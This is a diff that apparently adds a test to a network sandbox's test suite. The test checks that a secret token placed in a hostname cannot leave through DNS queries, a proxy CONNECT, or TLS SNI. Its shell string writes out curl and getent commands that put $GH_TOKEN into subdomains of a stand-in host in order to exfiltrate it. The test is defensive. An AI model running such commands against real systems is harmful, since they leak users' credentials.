@@ -101,6 +101,27 @@ class Secrets(netlab.LabCase):
         self.assertEqual(self.lab.requests(self.servers["other"]), [])
         self.assertIn("secret-elsewhere", r.err)
 
+    def test_placeholder_in_names_refused(self):
+        """A wildcard rule would let <placeholder>.other.example out as a DNS
+        question, a CONNECT target and an SNI: each is refused, and the lab's
+        resolver never hears the name."""
+        r = self.porta(["--secret", "GH_TOKEN@api.example", "--allow-net", "*.other.example"],
+                       'echo "ph=$GH_TOKEN"; getent hosts "$GH_TOKEN.other.example"; echo "dns=$?"; '
+                       'curl -sS -o /dev/null "https://$GH_TOKEN.other.example/"; echo "proxy=$?"; '
+                       'curl -sS -o /dev/null --noproxy "*" --resolve "x.other.example:443:' + OTHER +
+                       '" --connect-to "x.other.example:443:' + OTHER + ':443" '
+                       '-H "Host: x.other.example" "https://$(echo $GH_TOKEN | tr A-Z a-z).other.example/"; '
+                       'echo "sni=$?"')
+        out = dict(l.split("=", 1) for l in r.out.splitlines() if "=" in l)
+        ph = out["ph"]
+        self.assertNotEqual(out["dns"], "0", r.out)
+        self.assertNotEqual(out["proxy"], "0", r.out)
+        self.assertNotEqual(out["sni"], "0", r.out)
+        self.assertEqual(self.lab.queries((ph + ".other.example").lower()), [])
+        self.assertEqual(self.lab.queries(ph + ".other.example"), [])
+        self.assertEqual(self.lab.requests(self.servers["other"]), [])
+        self.assertIn("secret", r.err)
+
     def test_allow_http_refuses_what_no_rule_allows(self):
         r = self.porta(["--allow-http", "GET https://api.example/v1/*"],
                        'curl -sS -o /dev/null -w "%{http_code}\\n" https://api.example/v1/a '
